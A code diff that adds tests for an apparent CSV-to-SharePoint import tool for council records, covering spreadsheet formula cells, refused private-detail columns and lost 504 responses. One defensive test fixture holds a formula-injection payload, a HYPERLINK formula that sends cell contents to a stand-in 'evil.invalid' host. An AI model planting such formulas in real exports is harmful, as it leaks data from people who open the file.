@@ -14,7 +14,9 @@ import { writeOutcomesCsv } from '../../../tools/import/importOutcomes';
 import type { ListKey } from '../../../src/schema';
 import type { ISiteData, IStoredItem } from '../../../tools/emulator/siteData';
 import { IRunningEmulator, startSampleEmulator, userWithRole } from '../emulator/emulatorKit';
-import { CsvFolder, editorSp } from './importKit';
+import { CsvFolder, editorEmail, editorSp } from './importKit';
+import { connectToSite } from '../../../tools/import/connectToSite';
+import type { Transport } from '../../../src/data/behaviours/RetryThrottled';
 
 const data: ISiteData = generateSampleCouncil({ seed: 2026, officers: 200 });
 let emulator: IRunningEmulator;
@@ -29,7 +31,10 @@ afterAll(async () => {
   folder.remove();
 });
 
-function run(files: Partial<Record<ListKey, string>>, options: { dryRun?: boolean; batchSize?: number; onProgress?: (progress: IImportProgress) => void } = {}): Promise<IImportResult> {
+function run(
+  files: Partial<Record<ListKey, string>>,
+  options: { dryRun?: boolean; skipInvalid?: boolean; batchSize?: number; onProgress?: (progress: IImportProgress) => void } = {}
+): Promise<IImportResult> {
   return runImport({ sp: editorSp(emulator, data), files, ...options });
 }
 
@@ -206,6 +211,54 @@ describe('a file with problems', () => {
   });
 });
 
+describe('cells that start like a spreadsheet formula', () => {
+  it('are imported as text, with a warning for each row and column (a spreadsheet opening an export would run them)', async () => {
+    const path = folder.write('services-formulas.csv', [
+      ['Service code', 'Service', 'Directorate'],
+      ['FORMULA-1', '=HYPERLINK("http://evil.invalid/?"&A1,"Click")', 'Place'],
+      ['FORMULA-2', 'Harbour', '@SUM(A1)'],
+      ['FORMULA-3', 'Lighthouses', 'Place']
+    ]);
+    const result = await run({ Services: path }, { dryRun: true });
+    expect(result.status).toBe('dry run');
+    expect(result.outcomes.map((row) => row.outcome)).toEqual(['would add', 'would add', 'would add']);
+    expect(result.warnings).toEqual([
+      { file: 'services-formulas.csv', rowNumber: 2, column: 'Service', message: expect.stringMatching(/starts with "=".*formula/) },
+      { file: 'services-formulas.csv', rowNumber: 3, column: 'Directorate', message: expect.stringMatching(/starts with "@".*formula/) }
+    ]);
+    expect(result.problems).toEqual([]);
+  });
+});
+
+describe('a file with a column that looks like a private detail', () => {
+  test.each([{}, { skipInvalid: true }, { dryRun: true }])('is refused before SharePoint is asked anything (%p)', async (options) => {
+    const before = counts();
+    const requests = emulator.stats().apiRequests;
+    const members = folder.write('members-private.csv', [
+      ['Display name', 'Surname', 'Email', 'Ward', 'Home address', 'Personal mobile', 'DOB'],
+      ['Cllr Private', 'Private', 'private@council.example', String(existingWard.WardCode), '1 Secret Lane', '07700 900123', '01/01/1970']
+    ]);
+    const committees = folder.write('committees-fine.csv', [
+      ['Name', 'Type', 'Active'],
+      ['Private Detail Panel', 'Panel', 'Y']
+    ]);
+    const result = await run({ Members: members, Committees: committees }, options);
+    expect(result.status).toBe('invalid');
+    expect(result.problems.map((problem) => [problem.file, problem.rowNumber, problem.column, problem.message.split(',')[0]])).toEqual([
+      ['members-private.csv', 1, 'Home address', 'looks like a home address'],
+      ['members-private.csv', 1, 'Personal mobile', 'looks like a personal phone number'],
+      ['members-private.csv', 1, 'DOB', 'looks like a date of birth']
+    ]);
+    expect(result.problems[0].message).toMatch(/everyone who can read the hub's site can read its lists.*Remove this column/);
+    expect(result.outcomes.map((row) => [row.file, row.outcome])).toEqual([
+      ['members-private.csv', 'not written'],
+      ['committees-fine.csv', 'not written']
+    ]);
+    expect(emulator.stats().apiRequests).toBe(requests);
+    expect(counts()).toEqual(before);
+  });
+});
+
 describe('person columns', () => {
   it('sets an account by its email when the person is a user of the site, and reports one who is not', async () => {
     const officer = data.lists.Officers.find((item) => item.fields.OfficerAccount === null && typeof item.fields.Email === 'string');
@@ -287,6 +340,28 @@ describe('conflicts and failures while writing', () => {
     const again = await run({ Officers: path });
     expect(again.outcomes.map((row) => row.outcome)).toEqual([...Array(5).fill('unchanged'), ...Array(7).fill('added')]);
     expect(counts().Officers).toBe(before.Officers + 12);
+  });
+
+  it('a write applied but answered 504 is sent once, reported unknown (not failed), and a re-run is safe', async () => {
+    const path = folder.write('officers-lost-answer.csv', [['Name', 'Email', 'Service'], ['Late Answer', 'late.answer@council.example', String(data.lists.Services[0].fields.ServiceCode)]]);
+    const before = counts();
+    // A gateway that lets each $batch reach SharePoint (which applies it), then times out: 504.
+    const applyThen504: Transport = async (url, init) => {
+      const answer = await fetch(url.toString(), init);
+      if (!url.pathname.endsWith('/$batch')) return answer;
+      await answer.arrayBuffer();
+      return new Response('', { status: 504, statusText: 'Gateway Timeout' });
+    };
+    const sp = connectToSite(emulator.siteUrl, { kind: 'emulator', user: editorEmail(data) }, { transport: applyThen504, baseDelayMs: 1 });
+    const result = await runImport({ sp, files: { Officers: path } });
+    expect(counts().Officers).toBe(before.Officers + 1);
+    expect(result.outcomes.map((row) => row.outcome)).toEqual(['unknown']);
+    expect(result.outcomes[0].detail).toMatch(/HTTP 504/);
+    expect(result.outcomes[0].detail).toMatch(/may or may not have been written.*import the same file again.*matched by their key/);
+
+    const again = await run({ Officers: path });
+    expect(again.outcomes.map((row) => row.outcome)).toEqual(['unchanged']);
+    expect(counts().Officers).toBe(before.Officers + 1);
   });
 
   it('a list whose only batch fails as a whole stops the lists after it', async () => {
